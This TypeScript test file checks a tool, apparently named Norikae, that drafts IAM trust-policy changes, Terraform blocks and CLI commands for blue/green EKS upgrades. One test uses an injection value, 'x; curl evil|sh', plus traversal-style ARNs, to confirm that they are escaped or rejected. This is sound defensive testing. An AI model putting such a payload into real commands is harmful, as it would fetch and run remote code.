import { expect, test } from 'vitest'
import { documentsOf, fileOfRole, outdated } from '../../src/domain/requested-changes.ts'
import { roleRequests, targetRequests, type RoleRequest } from '../../src/domain/role-requests.ts'
import { trustPolicy, withGreen } from '../../src/domain/role-trust.ts'
import type { RoleDescription, RoleUse } from '../../src/domain/roles.ts'
import { terraformOf } from '../../src/domain/terraform-statements.ts'
import { requested } from '../../src/cli/render/requested.ts'

const account = '123456789012'
const issuer = (letter: string) => `oidc.eks.ap-northeast-1.amazonaws.com/id/${letter.repeat(32)}`
const cluster = (name: string, letter: string) => ({
  name,
  arn: `arn:aws:eks:ap-northeast-1:${account}:cluster/${name}`,
  oidcIssuer: `https://${issuer(letter)}`,
})
const [blue, green] = [cluster('demo-1-35', 'B'), cluster('demo-1-36', 'A')]
const byIssuer = (letter: string, sub: string) => ({
  Effect: 'Allow',
  Principal: { Federated: `arn:aws:iam::${account}:oidc-provider/${issuer(letter)}` },
  Action: 'sts:AssumeRoleWithWebIdentity',
  Condition: { StringEquals: { [`${issuer(letter)}:sub`]: sub } },
})
const people = { Sid: 'People', Effect: 'Allow', Principal: { AWS: account }, Action: 'sts:AssumeRole' }
const role = (name: string, tags: RoleDescription['tags'], ...letters: readonly string[]): RoleDescription => ({
  name,
  arn: `arn:aws:iam::${account}:role/${name}`,
  tags,
  trust: JSON.stringify({
    Version: '2012-10-17',
    Statement: [people, ...letters.map((it) => byIssuer(it, 'system:serviceaccount:files:web'))],
  }),
})
const stack = { 'aws:cloudformation:stack-name': 'roles' }
const terraform = { ManagedBy: 'terraform' }
const use = (arn: string, name = 'web', audience = 'sts.amazonaws.com'): RoleUse => ({
  arn,
  by: `ServiceAccount/files/${name}`,
  pods: { account: `files:${name}`, audience },
})

const asked = (roles: readonly RoleDescription[], uses: readonly RoleUse[] = [], quota = 2048) =>
  roleRequests({
    account,
    platform: 'demo',
    declared: { terraform: { tags: terraform, at: 'infra/eks' } },
    blue,
    green,
    uses,
    given: new Set(),
    roles,
    quota,
  })

test.for([
  {
    says: 'of CloudFormation',
    tags: stack,
    letters: ['B'],
    owner: 'CloudFormation (roles)',
    where: 'template of stack roles',
  },
  {
    says: 'of Terraform',
    tags: terraform,
    letters: ['B'],
    owner: 'Terraform (infra/eks)',
    where: 'then terraform apply',
  },
  {
    says: 'of eksctl',
    tags: { 'alpha.eksctl.io/cluster-name': 'demo-1-35' },
    letters: ['B'],
    owner: 'eksctl (demo-1-35)',
    where: 'a stack of CloudFormation that eksctl has made',
  },
  {
    says: 'of what a tag says in words',
    tags: { ManagedBy: 'pulumi' },
    letters: ['B'],
    owner: 'what its tag ManagedBy: pulumi says',
    where: 'wherever whoever owns it',
  },
])('a role $says is asked for whole', ({ tags, letters, owner, where }) => {
  const [it, ...more] = asked([role('files', tags, ...letters)], [use(role('files', tags).arn)])
  expect(more).toEqual([])
  expect(it).toMatchObject({ role: 'files', owner, by: 'ServiceAccount/files/web', isWhole: true })
  expect(it?.where).toContain(where)
  const document = trustPolicy(it?.document ?? '')
  // What is there stays as it is, and what is applied is what the step that waits for it looks for.
  expect(document.Statement.slice(0, 2)).toEqual([people, byIssuer('B', 'system:serviceaccount:files:web')])
  expect(withGreen(document, blue, green, 2048).missing).toEqual([])
  expect(it?.commands).toEqual(['aws iam update-assume-role-policy --role-name files --policy-document file://<file>'])
})

test.for([
  { says: 'lets in green already', roles: [role('files', stack, 'B', 'A')] },
  { says: 'is nobody’s, so Norikae writes it', roles: [role('files', {}, 'B')] },
  { says: 'has nothing of blue', roles: [role('files', stack)] },
])('what $says is not asked for', ({ roles }) => {
  expect(asked(roles)).toEqual([])
})

test('what IAM would refuse as too long says so', () => {
  expect(asked([role('files', stack, 'B')], [], 300)[0]?.tooLong).toMatch(
    /^it has \d+ characters, and account 123456789012 allows 300/,
  )
  expect(asked([role('files', stack, 'B')])[0]).not.toHaveProperty('tooLong')
})

test('of another account it is made of what pods say that they need, audience by audience', () => {
  const arn = 'arn:aws-cn:iam::999999999999:role/path/files'
  const uses = [use(arn, 'web'), use(arn, 'api'), use(arn, 'vault', 'vault'), { arn, by: 'add-on x' }]
  const [it, ...more] = asked([], uses)
  expect(more).toEqual([])
  expect(it).toMatchObject({ role: 'files', owner: 'account 999999999999', isWhole: false })
  expect(it?.where).toContain('for an add-on, the same as its own for blue')
  const { Statement } = trustPolicy(it?.document ?? '')
  expect(Statement).toEqual([
    {
      Effect: 'Allow',
      Principal: { Federated: `arn:aws-cn:iam::999999999999:oidc-provider/${issuer('A')}` },
      Action: 'sts:AssumeRoleWithWebIdentity',
      Condition: {
        StringEquals: {
          [`${issuer('A')}:aud`]: 'sts.amazonaws.com',
          [`${issuer('A')}:sub`]: ['system:serviceaccount:files:api', 'system:serviceaccount:files:web'],
        },
      },
    },
    expect.objectContaining({
      Condition: {
        StringEquals: {
          [`${issuer('A')}:aud`]: 'vault',
          [`${issuer('A')}:sub`]: ['system:serviceaccount:files:vault'],
        },
      },
    }),
  ])
  expect(it?.commands).toEqual([
    `aws iam create-open-id-connect-provider --url https://${issuer('A')} --client-id-list sts.amazonaws.com vault`,
  ])
})

test('what an annotation says is no command for who pastes it, and no path', () => {
  const arn = 'arn:aws:iam::999999999999:role/files'
  const [it] = asked([], [use(arn, 'web', 'x; curl evil|sh')])
  expect(it?.commands[0]).toMatch(/--client-id-list 'x; curl evil\|sh'$/)
  const odd = ['a:b:c:d:../../x:role/y', 'arn:aws:iam::999999999999:role/x;id', 'arn:aws:iam::9:role/x', 'files']
  expect(
    asked(
      [],
      odd.map((one) => use(one)),
    ),
  ).toEqual([])
})

test('Terraform is told by blocks, with what it would evaluate escaped', () => {
  const block = terraformOf({
    Effect: 'Allow',
    Principal: { Federated: 'arn:p' },
    Action: 'sts:AssumeRoleWithWebIdentity',
    Condition: { StringLike: { 'aws:PrincipalTag/team': ['${aws:username}', 'a"b'] } },
  })
  expect(block).toBe(`statement {
  effect  = "Allow"
  actions = ["sts:AssumeRoleWithWebIdentity"]
  principals {
    type        = "Federated"
    identifiers = ["arn:p"]
  }
  condition {
    test     = "StringLike"
    variable = "aws:PrincipalTag/team"
    values   = ["$\${aws:username}", "a\\"b"]
  }
}`)
})

test('Terraform is told whom a statement is not about', () => {
  const block = terraformOf({ Effect: 'Deny', NotPrincipal: { AWS: ['arn:a'] }, NotAction: 'sts:TagSession' })
  expect(block).toContain('  not_principals {\n    type        = "AWS"\n    identifiers = ["arn:a"]\n  }')
})

const shown = (roles: readonly RoleRequest[], folder?: string) =>
  requested(
    { platform: 'demo', blue: blue.name, green: green.name, at: '2026-11-27T01:02:03Z', roles, others: [] },
    { width: 80, colour: false, now: '' },
    folder,
  )

test('on a screen nothing of what is pasted is cut or broken, and each file is named where it is used', () => {
  const roles = asked([role('files', terraform, 'B')])
  const text = shown(roles)
  expect(text).toContain(`\n    ${roles[0]?.missing[0] ?? 'none'}\n`)
  expect(text).toContain("each role's document as a file: norikae requested demo --out <folder>")
  expect(text).toContain('    statement {\n      effect  = "Allow"\n')
  expect(shown(roles, "it's here/")).toContain(
    String.raw`--policy-document file://'it'\''s here/files.trust-policy.json'`,
  )
  expect(shown([])).toContain('✔ nothing is asked of others')
})

test('what was not read is no reason to say that nothing is asked', () => {
  const its = {
    platform: 'demo',
    blue: blue.name,
    green: green.name,
    at: '2026-11-27T01:02:03Z',
    roles: [],
    others: [],
  }
  const text = requested({ ...its, unread: ['IAM roles of account 1: denied'] }, { width: 80, colour: false, now: '' })
  expect(text).toContain('! not read, so nothing is said of it: IAM roles of account 1: denied')
  expect(text).not.toContain('nothing is asked of others')
  // A plan goes by whose everything was when it was made.
  const waits = ['wait until others let pods of demo-1-36 act as IAM role files']
  const waiting = requested({ ...its, waits }, { width: 400, colour: false, now: '' })
  expect(waiting).not.toContain('✔')
  expect(waiting).toContain(`! nothing is asked of others by whose everything is now, and the upgrade waits`)
  expect(waiting).toContain(`${waits[0] ?? ''}. norikae status demo says for what`)
})

test('roles of one name in two accounts have a file each', () => {
  const roles = asked([role('files', stack, 'B')], [use('arn:aws:iam::999999999999:role/files')])
  expect(roles.map(fileOfRole)).toEqual(['files.trust-policy.json', '999999999999.files.statements.json'])
  expect(documentsOf({ roles }).map(({ document }) => document)).toEqual(roles.map(({ document }) => document))
})

const leadsOn = (arn: string, externalId: string) => ({
  namespace: 'files',
  serviceAccount: 'web',
  roleArn: `arn:aws:iam::${account}:role/pod`,
  targetRoleArn: arn,
  externalId,
  tags: {},
})
const demanding = (id: string) => ({
  Sid: 'Theirs',
  Effect: 'Allow',
  Principal: { AWS: `arn:aws:iam::${account}:root` },
  Action: ['sts:AssumeRole', 'sts:TagSession'],
  Condition: { StringEquals: { 'sts:ExternalId': id, 'aws:PrincipalOrgID': 'o-1' } },
})
const asking = (id: string) => ({
  ...role('target', {}),
  trust: JSON.stringify({ Statement: [people, demanding(id)] }),
})
const own = role('target', {}).arn
const { Sid: _sid, ...greens } = demanding('green-id')
const bare = {
  Effect: 'Allow',
  Principal: { AWS: `arn:aws:iam::${account}:role/pod` },
  Action: ['sts:AssumeRole', 'sts:TagSession'],
  Condition: { StringEquals: { 'sts:ExternalId': 'green-id' } },
}
test.for([
  { says: 'of another account', arn: 'arn:aws:iam::999999999999:role/target', roles: [], is: bare },
  { says: 'that asks for blue’s external id, and more', arn: own, roles: [asking('blue-id')], is: greens },
  { says: 'that has green’s', arn: own, roles: [asking('green-id')], is: undefined },
  { says: 'that asks for that of others', arn: own, roles: [asking('other-id')], is: undefined },
  { says: 'that asks for none', arn: own, roles: [role('target', {})], is: undefined },
])('a role that an association leads on to, $says', ({ arn, roles, is }) => {
  const both = { blues: [leadsOn(arn, 'blue-id')], greens: [leadsOn(arn, 'green-id')] }
  const found = targetRequests(both, { blue, roles })
  expect(found.map((it) => it.arn)).toEqual(is ? [arn] : [])
  for (const { missing, where } of found) {
    expect(missing.map((text) => JSON.parse(text) as unknown)).toEqual([is])
    expect(where.includes('What else those for blue ask for')).toBe(is === bare)
  }
})

test('what nothing here knows the statements of has no file, and files of before go', () => {
  const roles = asked([], [{ arn: 'arn:aws:iam::999999999999:role/addon', by: 'add-on x' }])
  expect(roles).toHaveLength(1)
  expect(documentsOf({ roles })).toEqual([])
  expect(shown(roles, 'out')).not.toMatch(/to be added to Statement|these statements/)
  const there = ['files.trust-policy.json', '9.mail.statements.json', 'notes.json', 'now.trust-policy.json']
  expect(outdated(there, [{ file: 'now.trust-policy.json' }])).toEqual(there.slice(0, 2))
})
